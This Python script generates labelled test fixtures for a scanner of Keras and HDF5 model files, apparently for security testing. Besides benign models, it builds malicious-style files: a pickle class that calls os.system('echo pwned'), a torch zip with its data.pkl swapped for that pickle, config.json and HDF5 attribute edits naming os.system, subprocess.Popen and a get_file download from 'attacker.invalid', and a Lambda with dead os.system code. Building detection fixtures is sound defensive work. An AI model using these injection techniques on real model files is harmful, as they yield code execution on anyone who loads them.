#!/usr/bin/env python3
"""Generate the Keras and HDF5 fixtures in tests/fixtures/keras/.

Usage:  KERAS_BACKEND=torch /tmp/venv-h3/bin/python scripts/gen_keras_fixtures.py

Made with the REAL libraries, installed from the default package index into a throwaway venv:
    python3 -m venv /tmp/venv-h3
    /tmp/venv-h3/bin/pip install --no-cache-dir keras==3.15.1 h5py==3.16.0 numpy==2.4.6 torch==2.15.0
(CPython 3.11.7, libhdf5 as bundled in the h5py 3.16.0 wheel; Keras runs on the torch backend.)

What is made (labels and explanations in tests/fixtures/keras/labels.tsv):
  * benign Sequential / Functional models saved by `model.save()` as `.keras` and legacy `.h5`;
  * Lambda models saved for real (`.keras` and `.h5`), one harmless, one whose bytecode names
    `os.system` (never called: the branch is dead);
  * CVE-2025-1550 / CVE-2025-8747 style configs: a real `.keras` whose `config.json` is edited to
    name `os.system`, `subprocess.Popen` or `keras.utils.get_file`, and a real `.h5` whose
    `model_config` attribute is rewritten with h5py;
  * a custom registered layer (`registered_name` `mlvet_fixture>Scale`);
  * TorchModuleWrapper models (torch backend): a real one, and one whose embedded `torch.save`
    bytes are replaced by a torch zip whose pickle calls `os.system` (the torch zip is written by
    torch.save of a harmless module, then its `data.pkl` rewritten, the way attackers do it);
  * plain h5py files: libver earliest and latest, compact and dense attributes (dense: more
    attributes than the compact limit, and a 70 KB attribute), dense links (many members of a
    latest-format group), fixed and variable-length string attributes, a 512-byte user block.

Nothing here is ever loaded back with Keras or unpickled. Every payload only names `echo pwned`.
Zip timestamps are fixed and `metadata.json`'s `date_saved` is replaced so reruns are stable
(torch.save's random `serialization_id` still differs between runs).
"""

from __future__ import annotations

import base64
import io
import json
import os
import pickle
import shutil
import sys
import zipfile

os.environ.setdefault("KERAS_BACKEND", "torch")

import h5py  # noqa: E402
import keras  # noqa: E402
import numpy as np  # noqa: E402
import torch  # noqa: E402

ROOT = os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "tests", "fixtures", "keras")
LABELS: list[tuple[str, str, str]] = []


def out(name: str) -> str:
    return os.path.join(ROOT, name)


def label(name: str, verdict: str, why: str) -> None:
    LABELS.append((name, verdict, why))


def normalize_keras_zip(path: str, edit_config=None) -> None:
    """Rewrites a .keras zip with fixed timestamps, optionally editing config.json."""
    with zipfile.ZipFile(path) as z:
        members = [(info.filename, z.read(info.filename)) for info in z.infolist()]
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_STORED) as z:
        for name, data in members:
            if name == "metadata.json":
                meta = json.loads(data)
                meta["date_saved"] = "2026-01-01@00:00:00"
                data = json.dumps(meta).encode()
            if name == "config.json" and edit_config is not None:
                config = json.loads(data)
                edit_config(config)
                data = json.dumps(config).encode()
            info = zipfile.ZipInfo(name, date_time=(1980, 1, 1, 0, 0, 0))
            z.writestr(info, data)


def small_sequential() -> keras.Model:
    keras.utils.set_random_seed(0)
    return keras.Sequential(
        [keras.Input((4,)), keras.layers.Dense(3, activation="relu"), keras.layers.Dense(2)],
        name="small_sequential",
    )


def small_functional() -> keras.Model:
    keras.utils.set_random_seed(0)
    inputs = keras.Input((4,), name="features")
    hidden = keras.layers.Dense(3, activation="relu", kernel_regularizer="l2")(inputs)
    a = keras.layers.Dense(2, name="head_a")(hidden)
    b = keras.layers.Dense(2, name="head_b")(hidden)
    merged = keras.layers.Concatenate()([a, b])
    model = keras.Model(inputs, merged, name="small_functional")
    model.compile(optimizer=keras.optimizers.Adam(1e-3), loss="mse", metrics=["mae"])
    return model


# Lambda bodies below keep `os.system` in a branch that is never taken (x is never None), so the
# bytecode names it while nothing runs, also not when the model is built.
def lambda_model(fn) -> keras.Model:
    keras.utils.set_random_seed(0)
    return keras.Sequential(
        [keras.Input((4,)), keras.layers.Dense(2), keras.layers.Lambda(fn, name="lambda")],
        name="lambda_model",
    )


def harmless(x):
    return x * 2.0


def inject_layer(config: dict, layer: dict) -> None:
    config["config"]["layers"].append(layer)


def payload_layer(module: str, class_name: str, cfg: dict) -> dict:
    return {"module": module, "class_name": class_name, "config": cfg, "registered_name": None}


@keras.saving.register_keras_serializable(package="mlvet_fixture")
class Scale(keras.layers.Layer):
    def __init__(self, factor=2.0, **kwargs):
        super().__init__(**kwargs)
        self.factor = factor

    def call(self, x):
        return x * self.factor

    def get_config(self):
        return {**super().get_config(), "factor": self.factor}


class PwnReduce:
    """Pickles as `os.system('echo pwned')` (only ever pickled, never unpickled)."""

    def __reduce__(self):
        return (os.system, ("echo pwned",))


def malicious_torch_zip() -> bytes:
    """A torch.save zip of a harmless Linear whose data.pkl is replaced by a payload pickle."""
    buffer = io.BytesIO()
    torch.save(torch.nn.Linear(2, 2), buffer)
    with zipfile.ZipFile(io.BytesIO(buffer.getvalue())) as z:
        members = [(i.filename, z.read(i.filename)) for i in z.infolist()]
    result = io.BytesIO()
    with zipfile.ZipFile(result, "w", compression=zipfile.ZIP_STORED) as z:
        for name, data in members:
            if name.endswith("/data.pkl"):
                data = pickle.dumps(PwnReduce(), protocol=2)
            z.writestr(zipfile.ZipInfo(name, date_time=(1980, 1, 1, 0, 0, 0)), data)
    return result.getvalue()


def keras_fixtures() -> None:
    model = small_sequential()
    model.save(out("sequential.keras"))
    normalize_keras_zip(out("sequential.keras"))
    label("sequential.keras", "safe", "benign Sequential, model.save")
    model.save(out("sequential.h5"))
    label("sequential.h5", "safe", "benign Sequential, legacy HDF5 model.save")

    model = small_functional()
    model.save(out("functional.keras"))
    normalize_keras_zip(out("functional.keras"))
    label("functional.keras", "safe", "benign compiled Functional model (optimizer, loss, metrics)")
    model.save(out("functional.h5"))
    label("functional.h5", "safe", "benign compiled Functional, legacy HDF5")

    lambda_model(lambda x: harmless(x)).save(out("lambda.keras"))
    normalize_keras_zip(out("lambda.keras"))
    label("lambda.keras", "suspicious", "Lambda layer (marshalled bytecode), harmless body")
    lambda_model(lambda x: harmless(x)).save(out("lambda.h5"))
    label("lambda.h5", "suspicious", "Lambda layer in legacy HDF5 (safe_mode does not apply)")
    lambda_model(lambda x: x if x is not None else __import__("os").system("echo pwned")).save(
        out("lambda_os_system.h5")
    )
    label("lambda_os_system.h5", "malicious", "Lambda bytecode names __import__ and os.system")

    for name, module, cls, cfg in [
        ("cve_2025_1550_os_system.keras", "os", "system", {"command": "echo pwned"}),
        ("cve_2025_1550_popen.keras", "subprocess", "Popen", {"args": ["echo", "pwned"]}),
        (
            "cve_2025_8747_get_file.keras",
            "keras.utils",
            "get_file",
            {"fname": "x.py", "origin": "http://attacker.invalid/x.py", "cache_dir": "/tmp"},
        ),
    ]:
        small_sequential().save(out(name))
        layer = payload_layer(module, cls, cfg)
        normalize_keras_zip(out(name), lambda c, layer=layer: inject_layer(c, layer))
        label(name, "malicious", f"config.json names {module}.{cls}")

    small_sequential().save(out("unknown_module.keras"))
    normalize_keras_zip(
        out("unknown_module.keras"),
        lambda c: inject_layer(c, payload_layer("acme_layers.blocks", "Residual", {"units": 2})),
    )
    label("unknown_module.keras", "suspicious", "config names a non-Keras module (code the loader imports)")

    small_sequential().save(out("cve_2025_1550_os_system.h5"))
    with h5py.File(out("cve_2025_1550_os_system.h5"), "r+") as f:
        config = json.loads(f.attrs["model_config"])
        config["config"]["layers"].append(payload_layer("os", "system", {"command": "echo pwned"}))
        f.attrs["model_config"] = json.dumps(config).encode("utf8")
    label("cve_2025_1550_os_system.h5", "malicious", "model_config attribute rewritten to name os.system")

    keras.utils.set_random_seed(0)
    custom = keras.Sequential([keras.Input((4,)), Scale(3.0, name="scale")], name="custom")
    custom.save(out("custom_object.keras"))
    normalize_keras_zip(out("custom_object.keras"))
    label("custom_object.keras", "suspicious", "registered custom layer mlvet_fixture>Scale")

    from keras.layers import TorchModuleWrapper

    keras.utils.set_random_seed(0)
    torch.manual_seed(0)
    wrapped = keras.Sequential(
        [keras.Input((4,)), TorchModuleWrapper(torch.nn.Linear(4, 2), name="torch_linear")],
        name="torch_wrapper",
    )
    wrapped.save(out("torch_wrapper.keras"))
    normalize_keras_zip(out("torch_wrapper.keras"))
    label("torch_wrapper.keras", "suspicious", "TorchModuleWrapper: torch.load of an embedded torch.save zip (benign inside)")

    evil = base64.b64encode(malicious_torch_zip()).decode("ascii")

    def swap_module(config: dict) -> None:
        for layer in config["config"]["layers"]:
            if layer["class_name"] == "TorchModuleWrapper":
                layer["config"]["module"] = evil

    wrapped.save(out("torch_wrapper_malicious.keras"))
    normalize_keras_zip(out("torch_wrapper_malicious.keras"), swap_module)
    label("torch_wrapper_malicious.keras", "malicious", "TorchModuleWrapper whose torch zip pickle calls os.system")


def hdf5_fixtures() -> None:
    rng = np.random.RandomState(0)
    for libver in ("earliest", "latest"):
        name = f"plain_{libver}.h5"
        with h5py.File(out(name), "w", libver=libver, track_order=False) as f:
            f.attrs["fixed"] = np.bytes_(b"fixed-length bytes")
            f.attrs["vlen"] = "variable-length text \u00e9"
            f.attrs["count"] = np.int64(-42)
            f.attrs["ratio"] = np.float32(0.5)
            f.attrs["names"] = [b"alpha", b"beta", b"gamma"]
            f.attrs["vlen_list"] = ["one", "two", "three"]
            g = f.create_group("weights")
            g.create_dataset("kernel", data=rng.rand(4, 3).astype("float32"))
            g.create_dataset("bias", data=np.zeros(3, "float32"))
            sub = g.create_group("nested")
            sub.create_dataset("ints", data=np.arange(10, dtype="int16"))
            sub.attrs["note"] = "nested group"
        label(name, "safe", f"h5py libver={libver}: groups, datasets, fixed/vlen/int/float attributes")

    with h5py.File(out("dense_attributes.h5"), "w", libver="latest") as f:
        for i in range(24):
            f.attrs[f"attr_{i:02d}"] = f"value {i}"
        f.attrs["big"] = "x" * 70_000
        g = f.create_group("many")
        for i in range(40):
            g.create_dataset(f"d{i:02d}", data=np.arange(2, dtype="int8"))
    label("dense_attributes.h5", "safe", "dense attribute storage (fractal heap + v2 B-tree) and dense links")

    with h5py.File(out("old_style_many_members.h5"), "w", libver="earliest") as f:
        g = f.create_group("members")
        for i in range(80):
            g.create_group(f"g{i:03d}").attrs["index"] = i
    label("old_style_many_members.h5", "safe", "old-style group with 80 members (several symbol nodes)")

    with h5py.File(out("userblock.h5"), "w", userblock_size=512) as f:
        f.attrs["purpose"] = "user block before the superblock"
        f.create_dataset("x", data=np.arange(3))
    with open(out("userblock.h5"), "r+b") as fh:
        fh.write(b"user block text, not HDF5\n")
    label("userblock.h5", "safe", "512-byte user block: superblock at 512")


def main() -> None:
    if os.path.isdir(ROOT):
        shutil.rmtree(ROOT)
    os.makedirs(ROOT)
    keras_fixtures()
    hdf5_fixtures()
    with open(out("labels.tsv"), "w") as fh:
        fh.write("file\texpected\twhat\n")
        for name, verdict, why in sorted(LABELS):
            fh.write(f"{name}\t{verdict}\t{why}\n")
    print(f"{len(LABELS)} fixtures in {ROOT}", file=sys.stderr)


if __name__ == "__main__":
    main()
